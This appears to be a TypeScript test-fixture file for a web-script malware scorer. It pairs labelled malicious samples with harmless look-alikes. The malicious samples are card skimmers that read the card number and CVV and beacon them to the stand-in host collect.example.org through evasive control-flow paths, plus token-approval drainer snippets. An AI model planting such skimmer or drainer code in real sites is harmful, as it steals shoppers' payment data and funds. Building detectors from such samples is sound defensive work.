// Scripts whose data goes through exceptions, rejections, signals, ports, events that bubble and code in texts, with their expected
// verdicts, and harmless ones that share a way with them. They are inert: none of them is ever run, and the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

export const NUMBER = `document.querySelector('#cc_number').value`
export const TYPED = `{n:${NUMBER},c:document.querySelector('#cc_cvv').value}`
export const SENDS = `const send=d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d));`
export const atOrder = (statements: string): string =>
  `document.querySelector('#place_order').addEventListener('click',function(){${statements}});`
const inAsync = (statements: string): string =>
  `document.querySelector('#place_order').addEventListener('click',async function(){${statements}});`
export const worker = (code: string): string =>
  `var w=new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));`

/** What a script declares, and what it does when the order is placed. */
export type Way = readonly [name: string, declares: string, acts: string]

const THROWS = `async function f(){throw ${TYPED}}`
const REJECTIONS: readonly Way[] = [
  ['an async function that throws', THROWS, `f().catch(e=>send(e))`],
  [
    'an async function that throws behind await',
    `async function f(){await ready();throw ${TYPED}}`,
    `f().catch(send)`,
  ],
  ['an async method that throws', `const o={async f(){throw ${TYPED}}};`, `o.f().catch(send)`],
  [
    'an async function that returns a rejected promise',
    `${THROWS}async function g(){return f()}`,
    `g().catch(send)`,
  ],
  ['a handler that throws', '', `Promise.resolve(${TYPED}).then(d=>{throw d}).catch(send)`],
  [
    'a handler that throws, and one behind others',
    '',
    `Promise.resolve().then(()=>{throw ${TYPED}}).then(a=>a).then(b=>b,send)`,
  ],
  ['a handler of a request that throws', '', `fetch('/x').then(()=>{throw ${TYPED}}).catch(send)`],
  ['a handler of a request that returns', '', `fetch('/x').then(()=>(${TYPED})).then(send)`],
  ['a handler at the end that throws', '', `Promise.resolve().finally(()=>{throw ${TYPED}}).catch(send)`],
  ['a handler of a rejection that throws', '', `Promise.reject(1).catch(()=>{throw ${TYPED}}).catch(send)`],
  ['a handler of a rejection that returns', '', `Promise.reject(${TYPED}).catch(e=>e).then(send)`],
  [
    'a handler that returns a rejected promise',
    '',
    `Promise.resolve().then(()=>Promise.reject(${TYPED})).catch(send)`,
  ],
  ['a function of a promise that throws', '', `new Promise(()=>{throw ${TYPED}}).catch(send)`],
  [
    'a promise that is rejected by another function',
    `let no;const p=new Promise((y,n)=>{no=n});p.then(a=>a).catch(send);`,
    `no(${TYPED})`,
  ],
  [
    'a handler that throws when its promise has a value',
    `let yes;const p=new Promise(y=>{yes=y});p.then(a=>{throw a}).catch(send);`,
    `yes(${TYPED})`,
  ],
  [
    'Promise.withResolvers',
    '',
    `const {promise,reject}=Promise.withResolvers();promise.catch(send);reject(${TYPED})`,
  ],
  ['Promise.try', '', `Promise.try(()=>{throw ${TYPED}}).catch(send)`],
  ['Promise.all', '', `Promise.all([fetch('/x'),Promise.reject(${TYPED})]).catch(send)`],
  [
    'Promise.all of a promise that is rejected later',
    `let no;Promise.all([new Promise((y,n)=>{no=n})]).catch(send);`,
    `no(${TYPED})`,
  ],
  ['Promise.race', '', `Promise.race([new Promise(()=>{}),Promise.reject(${TYPED})]).catch(send)`],
  ['Promise.any', '', `Promise.any([Promise.reject(${TYPED})]).catch(e=>send(e.errors))`],
  [
    'Promise.allSettled',
    '',
    `Promise.allSettled([Promise.reject(${TYPED})]).then(r=>send(r.map(x=>x.reason)))`,
  ],
  [
    'one of two promises',
    '',
    `(navigator.onLine?Promise.resolve(1):Promise.reject(${TYPED})).then(a=>a).catch(send)`,
  ],
  [
    'the value of one of two promises',
    '',
    `(navigator.onLine?Promise.resolve(1):Promise.resolve(${TYPED})).then(send)`,
  ],
  [
    'one of two rejected promises',
    '',
    `(navigator.onLine?Promise.reject(1):Promise.reject(${TYPED})).catch(send)`,
  ],
  [
    'one of two promises, rejected later',
    `let no;const a=new Promise(()=>{}),b=new Promise((y,n)=>{no=n});(window.q?a:b).catch(send);`,
    `no(${TYPED})`,
  ],
  [
    'a promise with a value or a reason',
    '',
    `new Promise((y,n)=>{navigator.onLine?y(1):n(${TYPED})}).catch(send)`,
  ],
]

const AWAITED: readonly Way[] = [
  ['a rejected promise', '', `try{await Promise.reject(${TYPED})}catch(e){send(e)}`],
  ['an async function', THROWS, `try{await f()}catch(e){send(e)}`],
  [
    'an async function that waits for one',
    `${THROWS}async function g(){return await f()}`,
    `try{await g()}catch(e){send(e)}`,
  ],
  [
    'a promise that is rejected later',
    '',
    `try{await new Promise((y,n)=>setTimeout(()=>n(${TYPED}),9))}catch(e){send(e)}`,
  ],
  ['Promise.all', '', `try{await Promise.all([fetch('/x'),Promise.reject(${TYPED})])}catch(e){send(e)}`],
  ['Promise.allSettled', '', `const [r]=await Promise.allSettled([Promise.reject(${TYPED})]);send(r.reason)`],
  [
    'one of two promises',
    '',
    `try{await (navigator.onLine?Promise.resolve(1):Promise.reject(${TYPED}))}catch(e){send(e)}`,
  ],
  [
    'an async function that may throw',
    `async function f(){if(navigator.onLine)throw ${TYPED};return 1}`,
    `try{await f()}catch(e){send(e)}`,
  ],
  ['a handler of a rejection', '', `const d=await Promise.reject(${TYPED}).catch(e=>e);send(d)`],
]

const EXCEPTIONS: readonly Way[] = [
  [
    'an error under a condition',
    '',
    `try{if(navigator.onLine)throw new Error(${NUMBER})}catch(e){send(e.message)}`,
  ],
  [
    'an object, in the other branch',
    '',
    `try{if(navigator.onLine){a()}else{throw ${TYPED}}}catch(e){send(e)}`,
  ],
  ['an object, before another one', '', `try{if(navigator.onLine)throw ${TYPED};throw 1}catch(e){send(e)}`],
  ['an object, or another one', '', `try{if(navigator.onLine)throw ${TYPED};else throw 1}catch(e){send(e)}`],
  [
    'a function that may throw',
    `function f(){if(navigator.onLine)throw ${TYPED};return 1}`,
    `try{f()}catch(e){send(e)}`,
  ],
  [
    'a function that returns what is caught',
    `function f(){try{if(navigator.onLine)throw ${TYPED}}catch(e){return e}}`,
    `send(f())`,
  ],
  [
    'a function that returns or throws',
    `function f(){if(navigator.onLine)return ${TYPED};throw 0}`,
    `send(f())`,
  ],
  [
    'what is thrown again',
    '',
    `try{try{if(navigator.onLine)throw ${TYPED}}catch(e){throw e}}catch(e){send(e)}`,
  ],
  ['what passes a finally', '', `try{try{throw ${TYPED}}finally{a()}}catch(e){send(e)}`],
  ['a finally behind another exception', '', `try{throw 1}catch(e){throw 2}finally{send(${TYPED})}`],
  [
    'a function for each field',
    '',
    `try{document.querySelectorAll('input').forEach(x=>{if(x.name)throw ${TYPED}})}catch(e){send(e)}`,
  ],
  ['an error that nothing catches', `onerror=function(m){send(m)};`, `if(navigator.onLine)throw ${NUMBER}`],
  [
    'code behind an exception that need not be thrown',
    `function f(){throw 1}`,
    `navigator.onLine&&f();send(${TYPED})`,
  ],
  ['code behind a branch that throws', `function f(){throw 1}`, `navigator.onLine?f():0;send(${TYPED})`],
  ['code behind a loop that throws', '', `while(navigator.onLine)throw 1;send(${TYPED})`],
  ['code behind a case that throws', '', `switch(navigator.language){case 'a':throw 1}send(${TYPED})`],
]

const DUMMIES = `const d=[];for(let i=0;i<30;i++)d.push(new Promise(()=>{}));`
const FIELDS = `document.querySelector('#city').value`
/** Behind more of the same than a script needs. */
const MANY: readonly Way[] = [
  ['the last of many promises', DUMMIES, `Promise.all([...d,Promise.reject(${TYPED})]).catch(send)`],
  ['the last of many in a race', DUMMIES, `Promise.race([...d,Promise.resolve(${TYPED})]).then(send)`],
  [
    'the last of many handlers',
    `let no;const p=new Promise((y,n)=>{no=n});for(let i=0;i<30;i++)p.catch(()=>i);p.catch(send);`,
    `no(${TYPED})`,
  ],
  [
    'a card among other fields',
    '',
    `try{for(const x of document.forms){if(x.a)throw [${FIELDS}];if(x.b)throw ${TYPED};if(x.c)throw [${FIELDS}]}}catch(e){send(e)}`,
  ],
  ['one of two lists, of which one has other fields', '', `send(navigator.onLine?[${NUMBER}]:[${FIELDS}])`],
]

const SIGNALS: readonly Way[] = [
  ['its reason', '', `const ac=new AbortController();ac.abort(${TYPED});send(ac.signal.reason)`],
  [
    'a listener',
    `const ac=new AbortController();ac.signal.addEventListener('abort',()=>send(ac.signal.reason));`,
    `ac.abort(${TYPED})`,
  ],
  [
    'its event',
    `const ac=new AbortController();ac.signal.addEventListener('abort',e=>send(e.target.reason));`,
    `ac.abort(${TYPED})`,
  ],
  [
    'its handler',
    `const ac=new AbortController();ac.signal.onabort=function(){send(this.reason)};`,
    `ac.abort(${TYPED})`,
  ],
  [
    'throwIfAborted',
    '',
    `const ac=new AbortController();ac.abort(${TYPED});try{ac.signal.throwIfAborted()}catch(e){send(e)}`,
  ],
  ['AbortSignal.abort', '', `send(AbortSignal.abort(${TYPED}).reason)`],
  [
    'AbortSignal.any',
    `const ac=new AbortController(),s=AbortSignal.any([ac.signal]);s.onabort=()=>send(s.reason);`,
    `ac.abort(${TYPED})`,
  ],
  [
    'a request',
    '',
    `const ac=new AbortController();fetch('/x',{signal:ac.signal}).catch(send);ac.abort(${TYPED})`,
  ],
  [
    'a request that is aborted already',
    '',
    `const ac=new AbortController();ac.abort(${TYPED});fetch('/x',{signal:ac.signal}).catch(send)`,
  ],
]

const ANSWERS = worker('onmessage=function(e){e.ports[0].postMessage(e.data)}')
const CHANNEL = `const c=new MessageChannel();c.port1.onmessage=e=>send(e.data);`
const PORTS: readonly Way[] = [
  ['a worker', ANSWERS + CHANNEL, `w.postMessage(${TYPED},[c.port2])`],
  ['a worker, by options', ANSWERS + CHANNEL, `w.postMessage(${TYPED},{transfer:[c.port2]})`],
  [
    'a worker, listened to behind',
    ANSWERS,
    `const c=new MessageChannel();w.postMessage(${TYPED},[c.port2]);c.port1.onmessage=e=>send(e.data)`,
  ],
  [
    'a worker that keeps it',
    `${worker('var p;onmessage=function(e){if(e.ports.length){p=e.ports[0];return}p.postMessage(e.data)}')}${CHANNEL}w.postMessage(0,[c.port2]);`,
    `w.postMessage(${TYPED})`,
  ],
  [
    'a worker that gets the data by it, too',
    `${worker('onmessage=function(e){var p=e.ports[0];p.onmessage=function(m){p.postMessage(m.data)}}')}${CHANNEL}w.postMessage(0,[c.port2]);`,
    `c.port1.postMessage(${TYPED})`,
  ],
  [
    'a worker that finds it in the data',
    worker('onmessage=function(e){e.data.p.postMessage(e.data.d)}') + CHANNEL,
    `w.postMessage({d:${TYPED},p:c.port2},[c.port2])`,
  ],
  [
    'a worker that takes it apart',
    worker('onmessage=({data,ports:[p]})=>p.postMessage(data)') + CHANNEL,
    `w.postMessage(${TYPED},[c.port2])`,
  ],
  [
    'the own window',
    `onmessage=function(e){e.ports[0].postMessage(e.data)};${CHANNEL}`,
    `postMessage(${TYPED},'*',[c.port2])`,
  ],
]

const EVENTS: readonly Way[] = [
  [
    'an event that bubbles to the window',
    `addEventListener('x',e=>send(e.detail));`,
    `this.dispatchEvent(new CustomEvent('x',{detail:${TYPED},bubbles:true}))`,
  ],
  [
    'the field of an event that bubbles',
    `document.addEventListener('zz',e=>send(e.target.value));`,
    `document.querySelector('#cc_number').dispatchEvent(new Event('zz',{bubbles:true}))`,
  ],
  [
    'a change that the script dispatches',
    `document.addEventListener('change',e=>send(e.target.value));`,
    `document.querySelector('#cc_number').dispatchEvent(new Event('change',{bubbles:true}))`,
  ],
  [
    'a member of an element with an event',
    `document.addEventListener('zz',e=>send(e.target.kept));`,
    `const d=document.createElement('i');d.kept=${TYPED};document.body.append(d);d.dispatchEvent(new Event('zz',{bubbles:true}))`,
  ],
]

const APPROVES = `const provider=new ethers.providers.Web3Provider(window.ethereum);async function go(){const s=provider.getSigner();await new ethers.Contract('0xdAC17F958D2ee523a2206206994597C13D831ec7',abi,s).approve('0x1234567890AbcdEF1234567890aBcdef12345678',ethers.constants.MaxUint256)};module.exports={go};`
/** Code in texts that calls a function. */
const CALLS = [
  `setTimeout('go()',9)`,
  `setInterval('go()',9)`,
  `window.setTimeout("go()",9)`,
  `new Function('go()')()`,
  `document.querySelector('#claim').setAttribute('onclick','go()')`,
  `var s=document.createElement('script');s.text='go()';document.head.append(s)`,
]

export const HIDDEN_PATH_CASES: readonly ScriptCase[] = [
  ...[
    ...REJECTIONS.map((way) => ['a promise, ', way, atOrder] as const),
    ...AWAITED.map((way) => ['await of a promise, ', way, inAsync] as const),
    ...EXCEPTIONS.map((way) => ['an exception, ', way, atOrder] as const),
    ...MANY.map((way) => ['', way, atOrder] as const),
    ...SIGNALS.map((way) => ['a signal, ', way, atOrder] as const),
    ...PORTS.map((way) => ['a port of its own, ', way, atOrder] as const),
    ...EVENTS.map((way) => ['', way, atOrder] as const),
  ].map(([by, [name, declares, acts], at]): ScriptCase => ({
    name: `a card that a script gives itself by ${by}${name}`,
    source: SENDS + declares + at(acts),
    head: 'magecart',
  })),
  {
    name: 'a card behind an error whose name is that of the event',
    source: `${SENDS}document.querySelector('#cc_number').onchange=function(e){try{throw 1}catch(e){}send(e.target.value)}`,
    head: 'magecart',
  },
  {
    name: 'a card that a timer sends, by code in a text',
    source: `${SENDS}function go(){send(window.d)}${atOrder(`window.d=${TYPED};setTimeout('go()',0)`)}`,
    head: 'magecart',
  },
  ...CALLS.map((call): ScriptCase => ({
    name: `approvals in a function that is exported, and called by ${call.replace(/\(.*/u, '')} with a text`,
    source: APPROVES + call,
    head: 'malware',
  })),
]

export const LOGS = `const log=m=>navigator.sendBeacon('https://log.example.net/e',m);`
export const SHOWS = `document.querySelector('#message').textContent=`
export const PAYS = `fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`

export const HONEST_HIDDEN_PATHS: readonly HonestCase[] = [
  {
    name: 'an async function that pays at the own site and throws the status, which is logged',
    source: `${LOGS}async function pay(){const r=await ${PAYS};if(!r.ok)throw new Error('HTTP '+r.status);return r.json()}${inAsync(`try{await pay()}catch(e){log(e.message)}`)}`,
  },
  {
    name: 'a rejected payment with the members of its error, whose text is logged',
    source: `${LOGS}function post(u,b){return new Promise((y,n)=>{var x=new XMLHttpRequest;x.open('POST',u);x.onload=()=>{x.status===200?y(x.response):n(Object.assign(new Error('HTTP '+x.status),{config:{url:u,data:b}}))};x.send(b)})}${atOrder(`post('/api/pay',${NUMBER}).then(r=>alert(r)).catch(e=>{log(e.message);log(String(e));log('failed: '+e);log(\`\${e}\`)})`)}`,
  },
  {
    name: 'an async check of a card that throws it, which the form shows, and whose failure is counted',
    source: `${LOGS}async function check(n){if(n.length<12)throw new Error('no card: '+n);return n}${inAsync(`try{await check(${NUMBER});await ${PAYS}}catch(e){${SHOWS}e.message;log('failed')}`)}`,
  },
  {
    name: 'a check of a card under a condition, whose error the form shows, and whose name is logged',
    source: `${LOGS}class NoCard extends Error{constructor(m){super(m);this.name='NoCard'}}${atOrder(`try{if(!/^\\d+$/.test(${NUMBER}))throw new NoCard('no card: '+${NUMBER});${PAYS}}catch(e){${SHOWS}e.message;log(e.name)}`)}`,
  },
  {
    name: 'payments of which each ends, and whose states are logged',
    source: `${LOGS}${inAsync(`const r=await Promise.allSettled([${PAYS},fetch('/api/log')]);log(r.map(x=>x.status).join())`)}`,
  },
  {
    name: 'a race of a payment and a timer, whose reason is logged',
    source: `${LOGS}${atOrder(`Promise.race([${PAYS},new Promise((y,n)=>setTimeout(()=>n(new Error('too late')),9000))]).catch(e=>log(e.message))`)}`,
  },
  {
    name: 'a search that is aborted with a reason, which is logged',
    source: `${LOGS}let ac;document.querySelector('#search').oninput=async function(){if(ac)ac.abort('typed again');ac=new AbortController();const {signal}=ac;signal.onabort=()=>log(signal.reason);try{await fetch('/search?q='+this.value,{signal})}catch(e){log(e.name)}};${atOrder(PAYS)}`,
  },
  {
    name: 'a form that removes its listeners by a signal, for the own site',
    source: `const ac=new AbortController();document.querySelector('#checkout').addEventListener('submit',e=>{e.preventDefault();${PAYS};ac.abort()},{signal:ac.signal});ac.signal.addEventListener('abort',()=>navigator.sendBeacon('https://stats.example.org/done'))`,
  },
  {
    name: 'a card that a worker checks and answers by a port, which is counted',
    source: `${worker('function ok(n){for(var s=0,i=0;i<n.length;i++)s+=Number(n[i]);return s%10===0}onmessage=function(e){e.ports[0].postMessage(ok(e.data))}')}const c=new MessageChannel();c.port1.onmessage=function(e){navigator.sendBeacon('https://stats.example.org/ok',e.data?1:0)};document.querySelector('#cc_number').onchange=function(){w.postMessage(this.value,[c.port2])}`,
  },
  {
    name: 'a card for the frame of a payment service by a port, and messages of the window that are counted',
    source: `const c=new MessageChannel();const f=document.createElement('iframe');f.src='https://vault.pay.example/frame';document.body.append(f);f.onload=()=>f.contentWindow.postMessage('init','https://vault.pay.example',[c.port2]);addEventListener('message',e=>navigator.sendBeacon('https://stats.example.org/m',e.data));${atOrder(`c.port1.postMessage(${NUMBER})`)}`,
  },
  {
    name: 'timers with code in texts, beside a card for the own site',
    source: `function tick(){document.querySelector('#clock').textContent=new Date().toLocaleTimeString();setTimeout('tick()',1000)}setTimeout('tick()',0);setInterval("ping()",9000);function ping(){navigator.sendBeacon('https://stats.example.org/p')}${atOrder(PAYS)}`,
  },
  {
    name: 'approvals in a function that is exported, beside a timer with code in a text',
    source: `${APPROVES}function ping(){navigator.sendBeacon('/p')}setTimeout('ping()',9)`,
  },
  {
    name: 'a card that is rejected in one of two promises, and shown',
    source: `${LOGS}${atOrder(`(${NUMBER}.length<12?Promise.reject(new Error('no card: '+${NUMBER})):${PAYS}).then(r=>log('paid')).catch(e=>{${SHOWS}e.message})`)}`,
  },
  {
    name: 'an exception under a condition, and a card for the own site behind it',
    source: `${LOGS}function assert(x,m){if(!x)throw new Error(m)}${atOrder(`try{assert(document.querySelector('#agree').checked,'not agreed');${PAYS}}catch(e){log(e.message)}`)}`,
  },
]
